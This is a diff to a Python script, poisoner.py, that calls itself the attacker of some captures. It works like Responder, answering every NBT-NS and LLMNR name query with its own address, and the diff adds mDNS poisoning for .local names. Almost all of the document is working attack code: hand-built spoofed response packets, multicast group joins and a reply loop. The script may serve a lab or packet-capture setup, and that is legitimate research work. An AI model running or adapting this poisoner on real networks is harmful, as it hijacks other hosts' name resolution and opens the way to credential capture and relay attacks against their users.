@@ -1,7 +1,8 @@
 #!/usr/bin/env python3
-"""The attacker of the captures: answers every NBT-NS name query (UDP 137) and every LLMNR
-query (UDP 5355) with its own address, as Responder does. Plain sockets, no library: it is a
-few lines of RFC 1002 and RFC 4795. Runs until killed.
+"""The attacker of the captures: answers every NBT-NS name query (UDP 137), every LLMNR
+query (UDP 5355) and every mDNS question for a .local name (UDP 5353) with its own address,
+as Responder does. Plain sockets, no library: a few lines of RFC 1002, 4795 and 6762. Runs
+until killed.
 
 usage: poisoner.py ADDRESS
 """
@@ -43,6 +44,22 @@ def llmnr_answer(query):
             + b'\xc0\x0c' + struct.pack('>HHIH', 1, 1, 30, 4) + socket.inet_aton(ME))
 
 
+def mdns_answer(query):
+    """A multicast mDNS response giving our address for an A question about a .local name
+    (RFC 6762 6); probes (questions with proposed records) are left alone."""
+    _, flags, qd, _, ns = struct.unpack('>HHHHH', query[:10])
+    if flags & 0x8000 or qd != 1 or ns:
+        return None
+    end = 12
+    while query[end]:
+        end += 1 + query[end]
+    qtype = struct.unpack('>H', query[end + 1:end + 3])[0]
+    if qtype != 1 or not query[12:end].lower().endswith(b'\x05local'):
+        return None
+    return (struct.pack('>HHHHHH', 0, 0x8400, 0, 1, 0, 0) + query[12:end + 1]
+            + struct.pack('>HHIH', 1, 0x8001, 120, 4) + socket.inet_aton(ME))
+
+
 nbns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 nbns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 nbns.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
@@ -51,14 +68,21 @@ llmnr = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 llmnr.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 llmnr.bind(('', 5355))
 llmnr.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton('224.0.0.252') + socket.inet_aton(ME))
+mdns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+mdns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+mdns.bind(('', 5353))
+mdns.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton('224.0.0.251') + socket.inet_aton(ME))
+mdns.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ME))
 print('poisoning as', ME, flush=True)
 while True:
-    ready, _, _ = select.select([nbns, llmnr], [], [])
+    ready, _, _ = select.select([nbns, llmnr, mdns], [], [])
     for sock in ready:
         data, peer = sock.recvfrom(2048)
         if peer[0] == ME:
             continue
-        answer = (nbns_answer if sock is nbns else llmnr_answer)(data)
+        answer = {nbns: nbns_answer, llmnr: llmnr_answer, mdns: mdns_answer}[sock](data)
         if answer:
-            sock.sendto(answer, peer)
+            # mDNS answers go to the group, unless asked from another port than 5353
+            to = ('224.0.0.251', 5353) if sock is mdns and peer[1] == 5353 else peer
+            sock.sendto(answer, to)
             print('answered', peer, flush=True)
